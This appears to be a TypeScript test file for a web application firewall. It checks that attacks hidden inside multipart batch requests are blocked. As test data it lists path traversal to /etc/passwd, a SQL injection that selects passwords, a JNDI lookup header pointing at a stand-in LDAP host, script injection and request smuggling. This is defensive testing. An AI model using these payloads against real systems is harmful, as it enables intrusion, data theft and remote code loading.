import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { detectors } from '../detect/all.ts';
import { createFirewall } from '../firewall.ts';

const policy = { mode: 'block', paranoia: 1, threshold: 5, exclusions: [], inspectBytesMax: null } as const;
const firewall = createFirewall({ detectors });

function isStopped(request: string, { type, chunk }: { type: string; chunk: number }): boolean {
  const body = `--B\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary${
    type === 'multipart/form-data' ? '\r\nContent-Disposition: form-data; name="a"' : ''
  }\r\n\r\n${request}\r\n--B--\r\n`;
  const inspection = firewall.openBody(
    { contentType: `${type}; boundary=B`, contentEncoding: undefined, method: 'POST' },
    policy,
    { endpoint: '/*', nowMs: 0 },
  );
  const bytes = Buffer.from(body);
  for (let at = 0; at < bytes.length; at += chunk) inspection.feed(bytes.subarray(at, at + chunk));
  return inspection.end().verdict === 'block';
}

const list =
  "GET Orders?$filter=Status%20eq%20'A'%20or%20Status%20eq%20'B'&$top=10 HTTP/1.1\r\nAccept: application/json\r\n";
const change =
  'POST /odata/Customers HTTP/1.1\r\nContent-Type: application/json\r\nPrefer: return=minimal\r\n\r\n{"Name":"Smith & Sons"}';

describe('requests within a batch', () => {
  const type = 'multipart/mixed';
  for (const [name, request] of Object.entries({
    'a list': `${list}\r\n\r\n`,
    'a list without an empty line': list,
    'a change': change,
    'lines that end in LF': change.replaceAll('\r\n', '\n'),
    'no request': 'Hello there',
    nothing: '',
  }))
    test(`passes ${name}, however it was cut`, () => {
      for (const chunk of [1, 7, 4096]) assert.equal(isStopped(request, { type, chunk }), false);
    });

  // If this fails, whoever sends an attack within a batch passes by the firewall.
  for (const [name, request] of Object.entries({
    'an attack in the path': 'GET /files/..%2f..%2f..%2fetc/passwd HTTP/1.1\r\n\r\n',
    'an attack in the query': 'GET /a?q=1%27%20union%20select%20password%20from%20users--%20- HTTP/1.1\r\n\r\n',
    'an attack in a field': 'GET /a HTTP/1.1\r\nX-Api: ${jndi:ldap://a.example/x}\r\n\r\n',
    'an attack in the body': change.replace('Smith & Sons', '<script>alert(1)</script>'),
    'a second request behind the first': `${change}\r\n\r\nGET /admin HTTP/1.1\r\nHost: a\r\n\r\n`,
    'a broken field': 'GET /a HTTP/1.1\r\nX Y\r\n\r\n<script>alert(1)</script>',
  }))
    test(`stops ${name}, however it was cut`, () => {
      for (const chunk of [1, 7, 4096]) assert.equal(isStopped(request, { type, chunk }), true);
    });

  test('stops a request within a form, where no batch is', () =>
    assert.equal(isStopped(list, { type: 'multipart/form-data', chunk: 4096 }), true));
});
